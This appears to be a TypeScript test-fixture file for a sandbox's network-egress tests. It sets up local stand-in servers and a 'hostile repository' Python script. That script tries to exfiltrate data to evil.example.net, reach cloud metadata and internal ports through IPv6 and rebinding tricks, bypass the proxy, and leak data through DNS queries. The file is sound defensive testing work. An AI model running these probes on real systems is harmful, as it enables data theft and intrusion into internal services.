import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import net from "node:net";
import os from "node:os";
import path from "node:path";

/**
 * What the egress tests reach for on the app's host, all on 127.0.0.1: a tiny package registry (an npm packument and
 * its tarball, a PEP 503 simple index and its wheel), an "app port" answering like the app's `/metrics`, and a
 * stand-in for the host's Redis (a TCP service that answers PING).
 */
export interface EgressFixtures {
  registryPort: number;
  appPort: number;
  redisPort: number;
  /** Requests the registry and the app port answered (path), to prove nothing reached the app. */
  appHits: string[];
  registryHits: string[];
  close(): Promise<void>;
}

const PKG = "tiny-pkg";
const WHEEL = "tinypkg-1.0-py3-none-any.whl";

export async function startEgressFixtures(): Promise<EgressFixtures> {
  const dir = mkdtempSync(path.join(os.tmpdir(), "egress-fixtures-"));
  const tarball = buildTarball(dir);
  const wheel = buildWheel(dir);
  const registryHits: string[] = [];
  const appHits: string[] = [];
  let registryPort = 0;
  const registry = http.createServer((req, res) => {
    registryHits.push(req.url ?? "");
    const url = req.url ?? "";
    const base = `http://127.0.0.1:${registryPort}`;
    if (url === `/${PKG}`) {
      const integrity = `sha512-${createHash("sha512").update(tarball).digest("base64")}`;
      const shasum = createHash("sha1").update(tarball).digest("hex");
      res.setHeader("content-type", "application/json");
      return res.end(
        JSON.stringify({
          name: PKG,
          "dist-tags": { latest: "1.0.0" },
          versions: {
            "1.0.0": {
              name: PKG,
              version: "1.0.0",
              dist: { tarball: `${base}/${PKG}/-/${PKG}-1.0.0.tgz`, integrity, shasum },
            },
          },
        }),
      );
    }
    if (url === `/${PKG}/-/${PKG}-1.0.0.tgz`) return res.end(tarball);
    if (url === "/simple/tinypkg/") {
      const sha = createHash("sha256").update(wheel).digest("hex");
      res.setHeader("content-type", "text/html");
      return res.end(
        `<!DOCTYPE html><html><body><a href="${base}/files/${WHEEL}#sha256=${sha}">${WHEEL}</a></body></html>`,
      );
    }
    if (url === `/files/${WHEEL}`) return res.end(wheel);
    res.statusCode = 404;
    res.end("not found");
  });
  const app = http.createServer((req, res) => {
    appHits.push(req.url ?? "");
    res.end("# HELP aider_bot_secret_metric the app's own port\n");
  });
  const redis = net.createServer((s) => {
    appHits.push("redis");
    s.on("data", () => s.write("+PONG\r\n"));
  });
  registryPort = await listen(registry);
  const appPort = await listen(app);
  const redisPort = await listen(redis);
  return {
    registryPort,
    appPort,
    redisPort,
    appHits,
    registryHits,
    async close() {
      for (const s of [registry, app, redis]) {
        (s as http.Server).closeAllConnections?.();
        await new Promise<void>((resolve) => s.close(() => resolve()));
      }
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

function listen(server: net.Server): Promise<number> {
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () => resolve((server.address() as net.AddressInfo).port)),
  );
}

function buildTarball(dir: string): Buffer {
  const pkg = path.join(dir, "npm", "package");
  mkdirSync(pkg, { recursive: true });
  writeFileSync(path.join(pkg, "package.json"), JSON.stringify({ name: PKG, version: "1.0.0", main: "index.js" }));
  writeFileSync(path.join(pkg, "index.js"), "module.exports = 'tiny';\n");
  const file = path.join(dir, "tiny.tgz");
  execFileSync("tar", ["-C", path.join(dir, "npm"), "-czf", file, "package"]);
  return readFileSync(file);
}

function buildWheel(dir: string): Buffer {
  const file = path.join(dir, WHEEL);
  const script = `
import zipfile, sys
z = zipfile.ZipFile(sys.argv[1], "w")
z.writestr("tinypkg/__init__.py", "X = 1\\n")
z.writestr("tinypkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: tinypkg\\nVersion: 1.0\\n")
z.writestr("tinypkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
z.writestr("tinypkg-1.0.dist-info/RECORD", "")
z.close()
`;
  execFileSync("/usr/bin/python3", ["-c", script, file]);
  return readFileSync(file);
}

/**
 * The hostile repository's test script (Python's standard library only: the test image and bubblewrap both have it).
 * It tries every way out and prints one JSON object of what each attempt got; it exits 1 like a failing test.
 */
export const HOSTILE_SCRIPT = String.raw`
import json, os, socket, struct, sys, urllib.request, urllib.error
reg, app, redis = (int(x) for x in sys.argv[1:4])
proxy = os.environ.get("HTTP_PROXY", "")
res = {"proxy": proxy}

def fetch(url, proxies):
    try:
        opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
        with opener.open(url, timeout=8) as r:
            return "ok %d %s" % (r.status, r.read(300).decode(errors="replace"))
    except urllib.error.HTTPError as e:
        return "http %d %s" % (e.code, e.read(400).decode(errors="replace"))
    except Exception as e:
        return "error %s" % (e,)

via = {"http": proxy, "https": proxy} if proxy else {}
res["evil"] = fetch("https://evil.example.net/steal?d=secret", via)
res["evil_again"] = fetch("http://evil.example.net/steal?d=secret", via)
res["redis_proxy"] = fetch("http://127.0.0.1:%d/" % redis, via)
res["app_proxy"] = fetch("http://127.0.0.1:%d/metrics" % app, via)
res["metadata"] = fetch("http://169.254.169.254/latest/meta-data/iam/", via)
res["rebind"] = fetch("https://rebind.example.org/", via)
res["v6_loopback"] = fetch("http://[::1]:%d/metrics" % app, via)
res["v6_mapped"] = fetch("http://[::ffff:127.0.0.1]:%d/metrics" % app, via)
res["v6_metadata"] = fetch("http://[fd00:ec2::254]/latest/", via)
res["registry"] = fetch("http://127.0.0.1:%d/tiny-pkg" % reg, via)

def direct(host, port, family=socket.AF_INET):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect((host, port))
        s.sendall(b"PING\r\n")
        got = s.recv(100)
        s.close()
        return "connected %r" % got
    except Exception as e:
        return "error %s" % (e,)

res["direct_redis"] = direct("127.0.0.1", redis)
res["direct_app"] = direct("127.0.0.1", app)
res["direct_metadata"] = direct("169.254.169.254", 80)
res["direct_public"] = direct("93.184.216.34", 443)
res["direct_v6_public"] = direct("2606:4700:4700::1111", 443, socket.AF_INET6)
for k in [k for k in os.environ if "proxy" in k.lower()]:
    del os.environ[k]
res["unset_proxy"] = fetch("https://registry.npmjs.org/", {})

def dns(server):
    name = b"".join(bytes([len(p)]) + p for p in b"c2VjcmV0LWRhdGE.evil.example.net".split(b".")) + b"\0"
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1)
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(q, (server, 53))
        s.recvfrom(512)
        return "answer"
    except Exception as e:
        return "error %s" % (e,)

servers = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")] if os.path.exists("/etc/resolv.conf") else []
res["dns_resolver"] = dns(servers[0]) if servers and ":" not in servers[0] else "error no IPv4 resolver configured"
res["dns_public"] = dns("8.8.8.8")
try:
    socket.getaddrinfo("c2VjcmV0LWRhdGE.evil.example.net", 443)
    res["getaddrinfo"] = "resolved"
except Exception as e:
    res["getaddrinfo"] = "error %s" % (e,)
print("RESULT " + json.dumps(res))
sys.exit(1)
`;

/** The JSON object the hostile script printed. */
export function hostileResult(output: string): Record<string, string> {
  const line = output.split("\n").find((l) => l.startsWith("RESULT "));
  if (!line) throw new Error(`the hostile script printed no result:\n${output}`);
  return JSON.parse(line.slice("RESULT ".length)) as Record<string, string>;
}
